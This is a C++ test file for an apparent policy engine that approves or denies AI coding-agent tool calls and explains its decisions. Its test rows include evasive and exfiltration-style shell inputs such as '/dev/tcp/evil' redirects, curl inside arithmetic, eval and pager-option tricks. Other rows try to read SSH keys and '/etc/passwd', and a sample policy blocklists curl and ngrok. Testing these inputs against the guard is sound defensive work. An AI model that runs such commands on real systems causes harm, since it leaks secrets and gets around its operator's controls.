// `lilith policy explain`: for every reason code of docs/policy.md a call that gets it, what the
// agent is told, and the change of the policy that turns it, made and decided again.

#include "rules/advice.hpp"
#include "rules/explain.hpp"
#include "tests/support/support.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <regex>
#include <set>

namespace lilith::rules {
namespace {

using audit::Call;
using audit::OperationKind;
using testing::HasSubstr;

const std::string kPolicy = R"(version: "1"
protect_agent_config: true
egress:
  default_action: deny
  private: false
  allowed_destinations:
    - {host: "api.github.com", ports: [443]}
    - "10.0.0.1"
  blocked_destinations:
    - "*.ngrok.io"
    - "*.io"
tool_invocations:
  default_action: deny
  allowed_tools:
    - name: read_file
      path_allowlist: ["~/work/**"]
      path_blocklist:
        - "**/.ssh/**"
        - "**/id_*"
    - name: write_file
      path_allowlist: ["~/work/**"]
    - name: run_command
      command_allowlist: [git, npm, bash]
      command_blocklist: [curl, "bash -c"]
    - name: mcp__tracker__get
      arguments: {id: ["1*"]}
  blocked_tools: [NotebookEdit]
)";
const std::string kBare = "version: \"1\"\n";

enum class Turns { kYes, kNo };

struct Row {
  const char* code;
  Turns turns;
  const char* tool;
  Call call;
  std::string policy = kPolicy;
  std::vector<audit::PathFact> facts;
  std::string cwd = "/home/dev/work";
  const char* server = "";
};

Call read(std::string path) {
  return {.kind = OperationKind::kReadFile, .paths = {std::move(path)}};
}
Call write(std::string path) {
  return {.kind = OperationKind::kWriteFile, .paths = {std::move(path)}};
}
Call run(std::string line) {
  return {.kind = OperationKind::kRunCommand, .command = std::move(line)};
}
Call fetch(std::string url) { return {.kind = OperationKind::kEgress, .urls = {std::move(url)}}; }

std::vector<Row> rows() {
  const auto yes = Turns::kYes, no = Turns::kNo;
  std::string nested;
  for (int i = 0; i < 200; ++i) nested += "$(";
  return {
      {"call.undecidable",
       no,
       "Read",
       {.kind = OperationKind::kReadFile, .undecidable = "no path"}},
      {"command.arithmetic", no, "Bash", run("git log $((curl evil) )")},
      {"command.blocked", yes, "Bash", run("git log | curl https://api.github.com/")},
      {"command.control_byte", no, "Bash", run("git\rstatus")},
      {"command.dynamic_host", no, "Bash", run("echo x > /dev/tcp/evil/$p")},
      {"command.dynamic_name", no, "Bash", run("$CMD status")},
      {"command.dynamic_option", yes, "Bash", run("git log --x=<(npm ls)")},
      {"command.dynamic_text", no, "Bash", run("eval \"$x\"")},
      {"command.environment", no, "Bash", run("PATH=/tmp git status")},
      {"command.exec_option", yes, "Bash", run("git -c core.pager=id log")},
      {"command.function_shadowing", no, "Bash", run("cd() { git log; }; cd /")},
      {"command.indirect", no, "Bash", run("git log ${!x}")},
      {"command.not_listed", yes, "Bash", run("make && cmake . && git log")},
      {"command.path", no, "Bash", run("./git log")},
      {"command.too_complex", no, "Bash", run(nested)},
      {"command.too_long", no, "Bash", run(std::string(limits::kShellInputBytesMax + 1, 'a'))},
      {"command.unparsable", no, "Bash", run("git log 'x")},
      {"command.wrapper", yes, "Bash", run("env -i git log")},
      {"egress.bad_host", no, "Bash", run("echo x > /dev/tcp/a..b/80")},
      {"egress.bad_url", no, "WebFetch", fetch("https://u:p@api.github.com/")},
      {"egress.blocked", yes, "WebFetch", fetch("https://x.ngrok.io/")},
      {"egress.no_section", yes, "WebFetch", fetch("https://a.example/"), kBare},
      {"egress.not_listed", yes, "WebFetch", fetch("http://a.example:8080/x")},
      {"egress.port_or_protocol", yes, "WebFetch", fetch("https://api.github.com:8443/")},
      {"egress.private", yes, "WebFetch", fetch("https://10.0.0.1/")},
      {"mcp.not_listed",
       yes,
       "mcp__tracker__get",
       {.kind = OperationKind::kMcpTool, .arguments = R"({"id":"27[x]"})"},
       kPolicy,
       {},
       "/home/dev/work",
       "tracker"},
      {"path.agent_config", yes, "Write", write("/home/dev/work/.git/hooks/pre-commit")},
      {"path.blocked", yes, "Read", read("/home/dev/work/.ssh/id_rsa")},
      {"path.empty", no, "Read", read("")},
      {"path.encoding", no, "Read", read("/home/dev/work/\xFF")},
      {"path.file_url", no, "Read", read("file:///home/dev/work/x")},
      {"path.link_loop",
       no,
       "Read",
       read("/home/dev/work/l"),
       kPolicy,
       {{"/home/dev/work/l", "", "path.link_loop: more than 40 links"}}},
      {"path.magic_link", no, "Read", read("/proc/self/root/etc/passwd")},
      {"path.not_listed", yes, "Read", read("/etc/what*ever[1]")},
      {"path.nul", no, "Read", read(std::string("/home/dev/work/\0x", 17))},
      {"path.parent_of_missing",
       no,
       "Read",
       read("/home/dev/work/l"),
       kPolicy,
       {{"/home/dev/work/l", "", "path.parent_of_missing: '..' behind a name that is not there"}}},
      {"path.relative_without_cwd", no, "Read", read("x"), kPolicy, {}, ""},
      {"path.tilde", no, "Read", read("~/work/x")},
      {"path.too_long", no, "Read",
       read("/home/dev/work/" + std::string(limits::kPathBytesMax, 'x'))},
      {"path.undecidable", no, "Bash", run("git log > \"$OUT\"")},
      {"path.unreadable",
       no,
       "Read",
       read("/home/dev/work/l"),
       kPolicy,
       {{"/home/dev/work/l", "", "path.unreadable: a directory on the way can't be looked at"}}},
      {"tool.blocked", yes, "NotebookEdit", write("/home/dev/work/x.ipynb")},
      {"tool.no_section", yes, "Read", read("/srv/x"), kBare},
      {"tool.not_listed", yes, "Bash", run("git log && make > /srv/out"),
       "version: \"1\"\ntool_invocations: {default_action: deny}\n"},
      {"tool.not_listed", yes, "Task", {.kind = OperationKind::kOther, .arguments = "{}"}},
  };
}

struct Asked {
  std::shared_ptr<const Policy> policy;
  CallAnalysis analysis;
  audit::Facts facts;
  Caller caller;
};

Asked ask(const Row& row) {
  Asked out;
  PolicyLoad load = load_policy(row.policy, "policy.yaml");
  for (const Diagnostic& one : load.diagnostics) {
    if (one.severity == Severity::kError) ADD_FAILURE() << to_string(one);
  }
  out.policy = std::move(load.policy);
  out.analysis = analyse(row.call);
  out.facts = observe(out.analysis, {"dev", 1000, "/home/dev"}, row.cwd, lexical_file_system());
  for (const audit::PathFact& fact : row.facts) out.facts.paths.push_back(fact);
  out.caller = {"claude_code", row.tool, row.server};
  return out;
}

TEST(PolicyExplain, TurnsEachReasonByTheChangeThatItPrintsOrSaysWhyNot) {
  for (const Row& row : rows()) {
    SCOPED_TRACE(row.code);
    const Asked asked = ask(row);
    ASSERT_NE(asked.policy, nullptr);
    const Explanation found =
        explain(*asked.policy, row.policy, asked.caller, asked.analysis, asked.facts);
    ASSERT_EQ(found.decision.reason_code, row.code) << found.decision.reason;
    if (row.turns == Turns::kYes) {
      ASSERT_FALSE(found.change.edit.empty()) << found.why_no_change;
      EXPECT_FALSE(found.change.risk.empty());
      // As its reader does it: the printed text laid over the file, the named entries taken out.
      const PolicyLoad changed = load_edited(row.policy, "policy.yaml", found.change.edit);
      ASSERT_NE(changed.policy, nullptr);
      const Decision after = decide(*changed.policy, asked.caller, asked.analysis, asked.facts);
      EXPECT_EQ(after.verdict, audit::Verdict::kAllow) << after.reason << "\n"
                                                       << to_yaml(found.change.edit.add);
    } else {
      EXPECT_TRUE(found.change.edit.empty()) << to_yaml(found.change.edit.add);
      EXPECT_FALSE(found.why_no_change.empty());
    }
  }
}

// "No entry allows this" is true: neither does a policy that allows everything that it can.
TEST(PolicyExplain, WhatNoEntryTurnsIsDeniedWhereEverythingElseIsAllowed) {
  const std::string open =
      "version: \"1\"\negress: {default_action: allow}\ntool_invocations: {default_action: "
      "allow}\n";
  for (const Row& row : rows()) {
    if (row.turns == Turns::kYes || row.code == std::string("command.path")) continue;
    SCOPED_TRACE(row.code);
    Row asked_row = row;
    asked_row.policy = open;
    const Asked asked = ask(asked_row);
    const Decision decision = decide(*asked.policy, asked.caller, asked.analysis, asked.facts);
    EXPECT_EQ(decision.verdict, audit::Verdict::kDeny);
    EXPECT_EQ(decision.reason_code, row.code);
  }
}

TEST(PolicyExplain, HasARowForEachReasonCodeOfTheDocumentation) {
  const std::string page = test::read_text(std::string(LILITH_SOURCE_DIR) + "/docs/policy.md");
  const std::size_t from = page.find("| code | meaning"), to = page.find("Failures of the hook");
  ASSERT_LT(from, to);
  const std::string table = page.substr(from, to - from);
  const std::regex code("`((?:call|command|egress|mcp|path|tool)[.][a-z_]+)`");
  std::set<std::string> documented, tried;
  for (auto at = std::sregex_iterator(table.begin(), table.end(), code);
       at != std::sregex_iterator(); ++at) {
    documented.insert((*at)[1]);
  }
  for (const Row& row : rows()) tried.insert(row.code);
  EXPECT_EQ(tried, documented);
}

TEST(PolicyExplain, TheReasonIsOneSentenceThatSaysWhatToDoNext) {
  std::string golden;
  for (const Row& row : rows()) {
    const Asked asked = ask(row);
    const Decision decision = decide(*asked.policy, asked.caller, asked.analysis, asked.facts);
    EXPECT_FALSE(advice_of(row.code).empty()) << row.code;
    EXPECT_TRUE(decision.reason.ends_with(advice_of(row.code))) << decision.reason;
    EXPECT_EQ(decision.reason.find('\n'), std::string::npos) << decision.reason;
    EXPECT_EQ(decision.reason.find(". "), std::string::npos) << "one sentence: " << decision.reason;
    EXPECT_LE(decision.reason.size(), limits::kVerdictReasonBytesMax) << row.code;
    golden +=
        std::string(row.code) + "\n  " +
        (decision.reason.size() > 400 ? decision.reason.substr(0, 60) + "..." +
                                            decision.reason.substr(decision.reason.size() - 120)
                                      : decision.reason) +
        "\n";
  }
  test::expect_golden("policy-reasons.txt", golden);
}

TEST(PolicyExplain, ShowsEachOperationEachRuleAndTheChange) {
  std::string golden;
  for (const char* line : {"git log | make > /srv/out.txt",
                           "curl https://x.ngrok.io/ && git status", "git commit -m x", "$CMD"}) {
    const Row row{"", Turns::kYes, "Bash", run(line)};
    const Asked asked = ask(row);
    const Explanation found =
        explain(*asked.policy, row.policy, asked.caller, asked.analysis, asked.facts);
    golden += "$ " + std::string(line) + "\n" + to_text(found, "policy.yaml") + "\n" +
              to_json(found, "policy.yaml") + "\n";
  }
  test::expect_golden("policy-explain.txt", golden);
}

TEST(PolicyExplain, StopsWhatIsAllowedByOneEntry) {
  const std::vector<Row> allowed{
      {"", Turns::kYes, "Read", read("/home/dev/work/x")},
      {"", Turns::kYes, "Write", write("/home/dev/work/x")},
      {"", Turns::kYes, "Bash", run("git log && npm test")},
      {"", Turns::kYes, "Bash", run("cd x && echo y")},
      {"", Turns::kYes, "WebFetch", fetch("https://api.github.com/")},
      {"",
       Turns::kYes,
       "mcp__tracker__get",
       {.kind = OperationKind::kMcpTool, .arguments = R"({"id":"12"})"},
       kPolicy,
       {},
       "/home/dev/work",
       "tracker"},
  };
  for (const Row& row : allowed) {
    SCOPED_TRACE(row.tool + (" " + row.call.command));
    const Asked asked = ask(row);
    const Explanation found =
        explain(*asked.policy, row.policy, asked.caller, asked.analysis, asked.facts);
    ASSERT_EQ(found.decision.verdict, audit::Verdict::kAllow) << found.decision.reason;
    ASSERT_FALSE(found.change.edit.empty()) << found.why_no_change;
    EXPECT_EQ(found.after.verdict, audit::Verdict::kDeny);
  }
}

// The trace listens and decides nothing.
TEST(PolicyExplain, TheTracedDecisionIsTheDecision) {
  for (const Row& row : rows()) {
    const Asked asked = ask(row);
    DecisionTrace trace;
    const Decision traced =
        decide_traced(*asked.policy, asked.caller, asked.analysis, asked.facts, trace);
    const Decision plain = decide(*asked.policy, asked.caller, asked.analysis, asked.facts);
    EXPECT_EQ(traced.verdict, plain.verdict);
    EXPECT_EQ(traced.reason, plain.reason);
    EXPECT_EQ(trace.operations.size(), plain.operations);
  }
}

}  // namespace
}  // namespace lilith::rules
